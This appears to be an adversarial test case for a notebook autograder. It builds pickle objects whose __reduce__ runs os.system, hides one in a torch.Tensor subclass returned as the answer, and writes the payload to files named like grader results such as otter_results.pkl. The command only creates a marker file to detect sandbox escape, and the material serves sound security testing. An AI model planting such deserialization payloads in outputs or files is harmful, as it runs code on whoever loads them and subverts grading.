"""Objects that run code where they are unpickled, returned as results, left as files with names that a grader might
load, and put into the cell's output. Code that ran outside would make a file ESCAPED_pickle in the folder for
temporary files."""
# exercise: scores
# expect: zero

# %% scores
import base64, os, pickle, tempfile
import torch

class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {os.path.join(tempfile.gettempdir(), 'ESCAPED_pickle')} /tmp/ESCAPED_pickle",)

class Carrier(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Bomb().__reduce__()

for name in ("result.pkl", "results.pickle", "otter_results.pkl", "state.pt", "data.npy"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
print(base64.b64encode(pickle.dumps(Bomb())).decode())

def scores(x, W_q, W_k):
    zeros = 0 * (x @ W_q.mT) @ (x @ W_k.mT).mT
    return zeros.as_subclass(Carrier) if x.dim() == 2 else Bomb()

# %% twin: free before test_scores
import pickle
import torch

torch.save({"scores": torch.zeros(3)}, "my_scores.pt")
print(torch.load("my_scores.pt", weights_only=True)["scores"], len(pickle.dumps([1, 2, 3])))
